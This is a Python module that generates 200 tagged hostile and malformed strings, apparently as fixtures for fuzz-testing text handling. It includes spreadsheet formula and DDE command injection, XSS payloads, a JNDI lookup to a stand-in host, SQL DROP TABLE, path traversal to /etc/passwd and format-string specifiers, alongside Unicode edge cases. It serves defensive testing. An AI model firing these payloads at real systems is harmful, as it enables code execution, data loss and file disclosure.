"""Two hundred texts that mean harm or break things, made the same each time; each carries a mark by which it is found again."""

from itertools import product

FORMULAS = (
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://x.example","点我")',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
)
BEFORE = ("", " ", "\t", "\r", "\n", "\u00a0", "'", '"')
MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[点我](javascript:alert(1))",
    "![图](http://x.example/a.png)",
    ":red[急]",
    ":material/home:",
    "# 标题",
    "$$x^2$$",
    "`x`",
    "| a | b |",
    "&lt;b&gt;&amp;nbsp;",
    "]]>",
    "<!--",
    "{{ 7*7 }}",
    "${jndi:ldap://x.example}",
    "'; DROP TABLE posts; --",
    "%s%n%x",
    "../../etc/passwd",
)
SIGNS = (
    "\x00", "\x01\x02\x07\x08", "\x0b\x0c", "\x1b[31m", "\x7f", "\x85", "\u200b\u200e\u200f",
    "\u202e倒\u202c", "\u2066孤\u2069", "\ufeff",
    "\ufffe\uffff", "\ud83d", "\udc00", "\ud83d\ud83d", "👨\u200d👩\u200d👧\u200d👦", "🇨🇳", "👍🏽",
    "e\u0301\u0301\u0301", "Z͑ͫ̓ͪ̂ͫ̽͏", "مرحبا",
    "𠮷𪚥", "\u2028\u2029", "_x0041_", "_x000D_", "\r\n\r", "a\tb", "﷽", "ﬁ", "①②", "\u3000",
)  # fmt: skip
NUMBERS = ("4912345678901234567", "00715", "1e5", "1E-10", "0x1F", "3-4", "2026/3/2", "TRUE", "#N/A", "NaN", "-0", "１２３")
LONG = ("长" * 40_000, "😀" * 20_000, "a" * 40_000, "=" * 33_000, "\n" * 5_000, "<b>" * 9_000)


def texts() -> list[str]:
    """Exactly 200 of them; the mark 标NNN标 stands behind, so that the beginning stays hostile."""
    bare = [before + formula for before, formula in product(BEFORE, FORMULAS)]
    bare += [*MARKUP, *(f"前{sign}后" for sign in SIGNS), *SIGNS, *NUMBERS, *(f"{text}尾" for text in MARKUP), *LONG]
    bare += [f"{formula},{sign}" for formula, sign in product(FORMULAS[:4], SIGNS[:8])]
    return [f"{text}{mark(number)}" if len(text) < 5000 else f"{mark(number)}{text}" for number, text in enumerate(bare[:200])]


def mark(number: int) -> str:
    return f"标{number:03}标"
